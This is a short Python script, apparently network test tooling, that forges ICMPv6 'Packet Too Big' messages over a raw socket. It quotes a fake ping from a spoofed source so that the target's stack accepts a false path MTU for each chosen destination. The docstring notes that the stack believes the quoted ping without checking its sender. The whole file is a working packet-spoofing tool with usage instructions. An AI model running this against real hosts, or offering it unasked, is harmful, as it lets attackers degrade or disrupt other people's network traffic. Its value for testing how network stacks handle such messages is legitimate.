# SPDX-License-Identifier: GPL-2.0-only
"""Forges ICMPv6 "packet too big" (RFC 4443, 3.2). Usage: too_big.py TO MTU FROM DESTINATION...

To TO (an address of the host that is to believe it, with %NETDEV if it is link-local), one for each
DESTINATION: a packet from FROM to there, it says, was longer than MTU. What it quotes is a ping, which
the stack believes without a look at who has pinged.
"""

import ipaddress
import socket
import struct
import sys

PACKET_TOO_BIG, ECHO_REQUEST = 2, 128
ICMPV6 = socket.IPPROTO_ICMPV6
QUOTED = 8


def quoted(source, destination):
    """The beginning of a ping."""
    header = struct.pack("!IHBB", 6 << 28, QUOTED, ICMPV6, 64)
    addresses = ipaddress.IPv6Address(source).packed + ipaddress.IPv6Address(destination).packed
    return header + addresses + struct.pack("!BBHHH", ECHO_REQUEST, 0, 0, 1, 1)


def main():
    to, mtu, source, *destinations = sys.argv[1:]
    address = socket.getaddrinfo(to, None, socket.AF_INET6, socket.SOCK_RAW, ICMPV6)[0][4]
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, ICMPV6) as sock:
        for destination in destinations:
            # The kernel fills in the checksum.
            message = struct.pack("!BBHI", PACKET_TOO_BIG, 0, 0, int(mtu))
            sock.sendto(message + quoted(source, destination), address)


main()
